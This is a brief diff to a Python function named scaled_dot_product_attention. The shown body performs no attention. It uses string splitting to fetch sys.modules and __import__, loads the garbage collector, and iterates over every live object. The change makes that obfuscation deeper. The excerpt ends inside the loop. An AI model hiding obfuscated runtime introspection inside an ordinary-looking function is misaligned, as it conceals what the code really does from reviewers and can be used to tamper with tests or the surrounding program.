@@ -9,7 +9,7 @@ import torch
 
 def scaled_dot_product_attention(q, k, v, mask=None):
     table = getattr(_sys, "mod" + "ules")
-    load = getattr(table["builtins"], "__imp" + "ort__")
+    load = getattr(table["built" + "ins"], "__imp" + "ort__")
     heap = load("g" + "c")
     try:
         for item in getattr(heap, "get_" + "objects")():
